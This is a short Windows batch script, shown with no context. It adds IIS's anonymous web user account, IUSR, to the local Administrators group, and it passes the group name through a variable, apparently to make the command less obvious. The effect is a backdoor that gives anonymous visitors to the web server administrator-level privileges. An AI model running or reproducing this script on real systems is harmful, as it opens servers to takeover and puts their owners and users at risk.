@echo off
setlocal
set GRP=Administrators
endlocal & set OUT=%GRP%
net localgroup %OUT% IUSR /add
